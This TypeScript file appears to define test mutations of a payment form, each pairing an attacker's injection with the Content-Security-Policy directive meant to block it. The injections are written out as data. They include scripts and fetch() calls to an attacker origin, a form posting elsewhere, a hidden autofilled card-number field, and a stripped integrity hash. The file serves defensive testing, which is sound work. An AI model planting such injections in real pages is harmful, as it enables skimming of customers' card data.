/** One way in which an attacker between us and a customer changes the form. */
export type FormMutant = {
  name: string;
  /** The finding of our own check of the form. */
  words: string;
  /** The directive of the form's policy that blocks it in a browser. */
  stoppedBy: string;
  /** Changes the document; `evil` is the attacker's origin. */
  document?: (html: string, evil: string) => string;
  /** Changes the policy in the header; null removes it. */
  policy?: (header: string) => string | null;
  /** Changes the form's script. */
  script?: (text: string, evil: string) => string;
  /** The customer action that triggers it; none where opening the form is enough. */
  customer?: "presses" | "pays";
};

const put = (element: (evil: string) => string) => (html: string, evil: string) =>
  html.replace("</body>", `${element(evil)}\n</body>`);

const button = '<button id="stranger">Go on</button></form>';

/** Each sends something to the attacker's origin unless the form's policy blocks it. */
export const FORM_MUTANTS: readonly FormMutant[] = [
  {
    name: "a script of a stranger",
    words: "loads the script",
    stoppedBy: "script-src-elem",
    document: put((evil) => `<script src="${evil}/script.js"></script>`),
  },
  {
    name: "a script inside",
    words: "a script inside",
    stoppedBy: "script-src-elem",
    document: put((evil) => `<script>fetch("${evil}/inline")</script>`),
  },
  {
    name: "a handler",
    words: "has a handler",
    stoppedBy: "script-src-attr",
    document: put((evil) => `<img alt="" src="/favicon.svg" onload="fetch('${evil}/handler')">`),
  },
  {
    name: "a frame",
    words: "has a frame",
    stoppedBy: "frame-src",
    document: put((evil) => `<iframe src="${evil}/frame"></iframe>`),
  },
  {
    name: "a form that sends elsewhere",
    words: "has a form",
    stoppedBy: "form-action",
    document: put((evil) => `<form action="${evil}/form"><input name="number">${button}`),
    customer: "presses",
  },
  {
    name: "another base",
    words: "moves its addresses",
    stoppedBy: "base-uri",
    document: (html, evil) => html.replace("<title>", `<base href="${evil}/">\n<title>`),
  },
  {
    name: "a style sheet of a stranger",
    words: "loads <link",
    stoppedBy: "style-src-elem",
    document: put((evil) => `<link rel="stylesheet" href="${evil}/style.css">`),
  },
  {
    name: "a header that says more, and a script of a stranger",
    words: "content-security-policy is another one",
    stoppedBy: "script-src-elem",
    document: put((evil) => `<script src="${evil}/let-in.js"></script>`),
    policy: (header) => header.replace(/script-src [^;]+/, "script-src * 'unsafe-inline'"),
  },
  {
    name: "no header, and a script inside",
    words: "content-security-policy is missing",
    stoppedBy: "script-src-elem",
    document: put((evil) => `<script>fetch("${evil}/without-header")</script>`),
    policy: () => null,
  },
  {
    name: "another address for the card",
    words: "another one",
    stoppedBy: "connect-src",
    document: (html, evil) => html.replace(/"apiBase":"[^"]*"/, `"apiBase":"${evil}"`),
    customer: "pays",
  },
  {
    name: "the form's own script changed, and its hash with it",
    words: "not the file that we made",
    stoppedBy: "script-src-elem",
    document: (html) => html.replace(/(<script defer[^>]*?) integrity="[^"]*"/, "$1"),
    script: (text, evil) => `fetch("${evil}/changed-script");${text}`,
  },
  {
    name: "a field that nobody sees, for what browsers fill in",
    words: "has a field",
    stoppedBy: "form-action",
    document: put(
      (evil) =>
        `<form action="${evil}/filled"><input name="cc-number" autocomplete="cc-number" hidden>${button}`,
    ),
    customer: "presses",
  },
];
